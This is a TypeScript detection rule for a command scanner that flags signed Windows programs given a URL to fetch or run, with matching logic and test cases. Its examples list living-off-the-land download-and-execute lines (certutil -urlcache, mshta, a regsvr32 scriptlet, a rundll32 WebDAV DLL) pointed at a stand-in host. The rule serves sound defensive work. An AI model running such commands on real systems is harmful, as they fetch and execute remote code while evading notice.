import type { CommandMeaning } from '../../commands/command-meaning.js';
import { findSignedProxy } from '../../commands/lolbin.js';
import { remoteUrlOf } from '../../commands/remote-path.js';
import { matchSteps } from '../evidence.js';
import type { Rule } from '../rule.js';
import { urlsOf } from '../url.js';

export const lolbinUrl: Rule = {
  id: 'lolbin-url',
  title: 'A Windows program is given a URL to fetch or run',
  severity: 'medium',
  explanation:
    'certutil, bitsadmin, mshta, regsvr32 or another signed Windows program fetches or runs something from a URL. Installers that need a download do it themselves; through these programs it goes unnoticed.',
  attack: ['T1105', 'T1218'],
  references: ['LOLBAS project'],
  match: (facts) => matchSteps(facts, ({ meaning }) => describe(meaning)),
  examples: [
    { what: 'certutil', runs: ['certutil.exe -urlcache -split -f http://files.invalid/a.txt %TEMP%\\a.txt'] },
    { what: 'mshta', runs: ['mshta.exe http://files.invalid/c.hta'] },
    {
      what: 'regsvr32 with a scriptlet',
      runs: ['regsvr32 /s /n /u /i:http://files.invalid/x.sct scrobj.dll'],
    },
    { what: 'a DLL on a WebDAV path', runs: ['rundll32 \\\\files.invalid@80\\dav\\x.dll,Go'] },
  ],
  counterExamples: [
    { what: 'a DLL on a share of the network', runs: ['rundll32 \\\\server\\share\\x.dll,Go'] },
    { what: "the maker's page in the browser", runs: ['explorer.exe https://www.example.com/thanks'] },
    { what: 'certutil without a URL', runs: ['certutil.exe -addstore root C:\\x\\ca.cer'] },
  ],
};

/** Programs that show a page to the user. */
const BROWSERS = /(?:^|[\\/])(?:explorer|iexplore|hh)(?:\.exe)?$/i;

function describe(meaning: CommandMeaning): string | undefined {
  const [url] = urlsOf(meaning);
  if (url === undefined) return undefined;
  const program =
    meaning.kind === 'download'
      ? meaning.tool
      : meaning.kind === 'run-script'
        ? meaning.interpreter
        : meaning.kind === 'start-dll' && remoteUrlOf(meaning.dll) !== undefined
          ? meaning.proxy
          : undefined;
  if (program === undefined || BROWSERS.test(program) || findSignedProxy(program) === undefined)
    return undefined;
  return `${program} with ${url}`;
}
